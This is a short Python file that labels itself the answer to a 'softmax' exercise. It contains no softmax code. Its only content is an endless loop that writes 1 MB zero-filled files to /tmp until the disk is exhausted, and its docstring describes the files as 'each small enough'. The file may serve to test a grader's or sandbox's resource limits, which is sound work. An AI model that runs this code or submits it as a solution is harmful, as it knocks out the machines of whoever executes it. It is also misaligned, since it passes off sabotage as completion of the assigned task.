"""Fills the temporary folder with files that are each small enough."""
# exercise: softmax
# where: answer

import itertools

for number in itertools.count():
    with open(f"/tmp/{number}", "wb") as file:
        file.write(bytes(1_000_000))
